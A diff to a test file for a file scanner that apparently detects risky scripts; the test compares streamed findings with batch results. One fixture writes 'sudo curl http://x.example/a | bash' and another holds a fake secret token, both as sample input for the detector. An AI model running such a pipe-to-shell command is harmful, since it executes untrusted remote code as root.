@@ -173,6 +173,7 @@ def test_run_scan_writes_tables(spark, as_files, tmp_path):
 
 
 def test_stream_equals_batch(spark, tmp_path):
+    from palisade.operators.scripts import detect_scripts
     from palisade.sources.files import prepare_files, read_tree
     from palisade.streaming.stream_scan import stream_tree, streamed_findings
 
@@ -181,11 +182,11 @@ def test_stream_equals_batch(spark, tmp_path):
     (root / "a.txt").write_text('token = "0123456789abcdef0123"')
     (root / "b.sh").write_text("sudo curl http://x.example/a | bash")
     out, checkpoint = str(tmp_path / "out"), str(tmp_path / "cp")
-    stream_tree(spark, str(root), out, checkpoint, "r").awaitTermination()
-    (root / "Dockerfile").write_text("FROM x:latest\n")
-    stream_tree(spark, str(root), out, checkpoint, "r").awaitTermination()
+    stream_tree(spark, str(root), out, checkpoint, "r", detect_scripts).awaitTermination()
+    (root / "Dockerfile").write_text("RUN sudo x\n")
+    stream_tree(spark, str(root), out, checkpoint, "r", detect_scripts).awaitTermination()
     key = lambda df: sorted((r.path, r.rule_id, r.line_no or 0) for r in df.collect())
-    batch = key(scan(prepare_files(read_tree(spark, str(root), "r"))))
+    batch = key(detect_scripts(prepare_files(read_tree(spark, str(root), "r"))))
     assert key(streamed_findings(spark, out)) == batch and batch
 
 
